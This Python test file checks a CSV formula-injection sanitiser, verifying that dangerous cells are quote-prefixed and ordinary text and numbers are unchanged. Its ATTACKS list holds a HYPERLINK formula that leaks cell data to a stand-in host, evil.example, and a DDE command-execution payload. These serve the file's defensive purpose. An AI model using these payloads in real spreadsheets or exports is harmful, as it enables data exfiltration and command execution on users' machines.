"""CSV cells that a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from opsportal.kit.csvsafe import FORMULA_STARTS, csv_text, safe_cell, safe_row

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


class TestSafeCell:
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_formula_text_is_prefixed(self, attack: str) -> None:
        assert safe_cell(attack) == "'" + attack

    @pytest.mark.parametrize(
        "text", ["Harbor Health", "", "a=b", "1-800 Flowers", "O'Brien & Co", "Zoë Łukasz"]
    )
    def test_ordinary_text_is_unchanged(self, text: str) -> None:
        assert safe_cell(text) == text

    def test_numbers_stay_numbers(self) -> None:
        assert safe_row([-3.5, -2, Decimal("-0.25"), 0, True, None]) == [
            "-3.5",
            "-2",
            "-0.25",
            "0",
            "true",
            "",
        ]

    def test_dates_are_iso(self) -> None:
        assert safe_cell(date(2026, 11, 28)) == "2026-11-28"
        assert safe_cell(datetime(2026, 11, 28, 2, 0, tzinfo=UTC)) == "2026-11-28T02:00:00+00:00"


class TestCsvText:
    def test_a_hostile_organisation_name_reaches_the_file_as_text(self) -> None:
        text = csv_text(["id", "name", "value"], [[1, "=2+5", -1.5], [2, "Acme, Inc.", 3]])
        assert text == 'id,name,value\r\n1,\'=2+5,-1.5\r\n2,"Acme, Inc.",3\r\n'

    @given(st.lists(st.lists(st.text(), min_size=1, max_size=4), max_size=5))
    def test_no_text_cell_ever_starts_a_formula(self, rows: list[list[str]]) -> None:
        width = max((len(r) for r in rows), default=1)
        parsed = list(csv.reader(io.StringIO(csv_text([f"c{i}" for i in range(width)], rows))))
        cells = [cell for row in parsed[1:] for cell in row]
        originals = [cell for row in rows for cell in row]
        assert len(cells) == len(originals)
        for cell, original in zip(cells, originals, strict=True):
            assert not cell.startswith(FORMULA_STARTS)
            assert cell in (original, "'" + original)
